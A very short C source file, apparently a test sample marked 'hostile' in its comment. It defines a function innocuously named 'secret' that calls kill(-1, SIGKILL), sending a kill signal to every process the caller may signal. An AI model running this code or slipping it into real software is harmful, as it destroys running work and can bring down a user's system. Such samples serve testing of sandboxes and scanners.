/* hostile: kill(-1, SIGKILL) — every process it may signal. */
#include <signal.h>
int secret(void);
int secret(void) { kill(-1, SIGKILL); return 0; }
